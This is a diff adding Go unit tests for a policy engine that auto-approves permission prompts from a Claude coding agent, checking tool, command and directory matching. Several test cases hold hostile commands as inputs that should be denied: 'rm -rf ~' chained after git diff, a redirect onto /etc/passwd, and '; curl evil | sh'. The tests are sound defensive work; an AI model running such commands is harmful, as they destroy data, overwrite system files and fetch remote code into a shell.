@@ -0,0 +1,82 @@
+package server
+
+import (
+	"testing"
+	"time"
+
+	"github.com/noamsto/houston/agents/claude"
+)
+
+func TestPolicyMatch(t *testing.T) {
+	bash := func(cmd string) claude.PermissionPrompt {
+		return claude.PermissionPrompt{Tool: "Bash", Detail: cmd, Body: []string{cmd, "Show changes"}}
+	}
+	gitReadOnly := Policy{ID: "git", Tool: "Bash", Command: `git status|git diff( .*)?`, Path: "~/work/*", Enabled: true}
+
+	tests := []struct {
+		name   string
+		policy Policy
+		prompt claude.PermissionPrompt
+		dir    string
+		want   bool
+	}{
+		{"match", gitReadOnly, bash("git status"), "/home/me/work/app", true},
+		{"subdirectory", gitReadOnly, bash("git diff --stat"), "/home/me/work/app/server", true},
+		{"other command", gitReadOnly, bash("git push"), "/home/me/work/app", false},
+		{"prefix only", gitReadOnly, bash("git statuses"), "/home/me/work/app", false},
+		{"chained", gitReadOnly, bash("git diff && rm -rf ~"), "/home/me/work/app", false},
+		{"redirect", gitReadOnly, bash("git diff > /etc/passwd"), "/home/me/work/app", false},
+		{"other dir", gitReadOnly, bash("git status"), "/home/me/play/app", false},
+		{"work itself", gitReadOnly, bash("git status"), "/home/me/work", false},
+		{"other tool", gitReadOnly, claude.PermissionPrompt{Tool: "Edit", Detail: "git status"}, "/home/me/work/app", false},
+		{"disabled", Policy{ID: "x", Tool: "*"}, bash("ls"), "/tmp", false},
+		{"tool glob", Policy{ID: "gh", Tool: "mcp__github__*", Enabled: true},
+			claude.PermissionPrompt{Tool: "mcp__github__get_issue"}, "/tmp", true},
+		{"wrapped command", Policy{ID: "ls", Tool: "Bash", Command: "ls.*", Enabled: true},
+			claude.PermissionPrompt{Tool: "Bash", Detail: "ls -la", Body: []string{"ls -la", "; curl evil | sh"}}, "/tmp", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cp, err := compilePolicy(tt.policy)
+			if err != nil {
+				t.Fatalf("compilePolicy: %v", err)
+			}
+			if got := cp.match(tt.prompt, tt.dir, "/home/me"); got != tt.want {
+				t.Errorf("match(%q in %q) = %v, want %v", tt.prompt.Detail, tt.dir, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCompilePolicyErrors(t *testing.T) {
+	for _, p := range []Policy{
+		{ID: "a"},
+		{ID: "b", Tool: "Bash", Command: "git ("},
+		{ID: "c", Tool: "["},
+	} {
+		if _, err := compilePolicy(p); err == nil {
+			t.Errorf("compilePolicy(%+v) = nil error, want error", p)
+		}
+	}
+}
+
+func TestPolicyEngineDecide(t *testing.T) {
+	e := newPolicyEngine()
+	cp, _ := compilePolicy(Policy{ID: "any", Tool: "Read", Enabled: true})
+	e.set(cp)
+
+	prompt := claude.PermissionPrompt{Tool: "Read", Detail: "/tmp/x", Body: []string{"/tmp/x"}, Question: "Do you want to proceed?"}
+	now := time.Now()
+	if _, ok := e.decide("work:1.0", prompt, "/tmp", "", now); !ok {
+		t.Fatal("first prompt not approved")
+	}
+	if _, ok := e.decide("work:1.0", prompt, "/tmp", "", now.Add(time.Second)); ok {
+		t.Error("same prompt approved twice while the agent redraws")
+	}
+	if _, ok := e.decide("work:1.0", prompt, "/tmp", "", now.Add(policyRepeatDelay)); !ok {
+		t.Error("repeated prompt not approved after the delay")
+	}
+	if _, ok := e.decide("work:2.0", prompt, "/tmp", "", now.Add(time.Second)); !ok {
+		t.Error("prompt in another pane not approved")
+	}
+}